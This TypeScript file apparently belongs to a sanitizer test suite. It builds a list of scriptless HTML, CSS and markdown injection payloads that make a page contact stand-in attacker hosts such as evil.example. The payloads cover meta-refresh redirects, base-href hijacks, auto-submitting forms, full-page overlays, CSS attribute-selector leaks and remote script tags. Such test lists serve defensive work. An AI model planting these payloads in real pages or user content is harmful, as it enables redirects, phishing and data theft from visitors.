import { type Attack, evilHost, pair } from '../payload.ts'

const targets = [evilHost, '//evil.example', 'http://evil.example', 'https:evil.example', '/evil']

/** Attacks that need no script: they ask for something, lead away, or take the page's look. */
const askings: readonly ((target: string, sign: string) => string)[] = [
  (target, sign) => `<meta http-equiv=refresh content="0;url=${target}/${sign}">`,
  (target, sign) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${target}/${sign}'">`,
  (target, sign) => `<base href="${target}/${sign}/">`,
  (target, sign) => `<form action=${target}/${sign} method=post><input type=submit autofocus></form>`,
  (target, sign) => `<link rel=stylesheet href=${target}/${sign}.css>`,
  (target, sign) => `<link rel=prefetch href=${target}/${sign}>`,
  (target, sign) => `<link rel="dns-prefetch preconnect" href=${target}>${sign}`,
  (target, sign) => `<link rel=icon href=${target}/${sign}.ico>`,
  (target, sign) => `<link rel=manifest href=${target}/${sign}.json>`,
  (target, sign) => `<img src=${target}/${sign}.png>`,
  (target, sign) => `<img srcset="${target}/${sign}.png 1x">`,
  (target, sign) => `<picture><source srcset=${target}/${sign}.png><img></picture>`,
  (target, sign) => `<video poster=${target}/${sign}.png src=${target}/${sign}.mp4></video>`,
  (target, sign) => `<audio src=${target}/${sign}.mp3 autoplay></audio>`,
  (target, sign) => `<video><track default src=${target}/${sign}.vtt></video>`,
  (target, sign) => `<iframe src=${target}/${sign}></iframe>`,
  (target, sign) => `<object data=${target}/${sign}></object>`,
  (target, sign) => `<embed src=${target}/${sign}>`,
  (target, sign) => `<body background=${target}/${sign}.png>`,
  (target, sign) => `<table background=${target}/${sign}.png><td background=${target}/${sign}.png></table>`,
  (target, sign) => `<input type=image src=${target}/${sign}.png>`,
  (target, sign) => `<svg><image href=${target}/${sign}.png /><use href=${target}/${sign}.svg#a /></svg>`,
  (target, sign) => `<div style="background:url(${target}/${sign}.png)">x</div>`,
  (target, sign) =>
    `<div style="position:fixed;inset:0;z-index:9999;background:url('${target}/${sign}')">x</div>`,
  (target, sign) => `<style>@import '${target}/${sign}.css';</style>`,
  (target, sign) => `<style>*{background:url(${target}/${sign})}#app{display:none}</style>`,
  (target, sign) => `<style>@font-face{font-family:x;src:url(${target}/${sign})}*{font-family:x}</style>`,
  (target, sign) => `<style>input[value^=a]{background:url(${target}/${sign})}</style>`,
  (target, sign) => `<p style="-moz-binding:url(${target}/${sign});behavior:url(${target}/${sign})">x</p>`,
  (target, sign) => `<p style="list-style:url(${target}/${sign});content:url(${target}/${sign})">x</p>`,
  (target, sign) => `<a href=${target} ping=${target}/${sign}>x</a>`,
  (target, sign) => `<script src=${target}/${sign}.js></script>`,
  (target, sign) => `<script type=module>import '${target}/${sign}.js'</script>`,
  (target, sign) => `<portal src=${target}/${sign}></portal>`,
  (target, sign) => `<frameset><frame src=${target}/${sign}></frameset>`,
  (target, sign) => `<html manifest=${target}/${sign}>`,
  (target, sign) => `![${sign}](${target}/${sign}.png)`,
  (target, sign) => `[![${sign}](${target}/${sign}.svg)](${target})`,
  (target, sign) => `![${sign}]\n\n[${sign}]: ${target}/${sign}.png`,
  (target, sign) => `<${target}/${sign}>`,
]

export const requests: readonly Attack[] = pair(
  targets,
  askings,
  (target, ask): Attack =>
    (_code, sign) =>
      ask(target, sign),
)
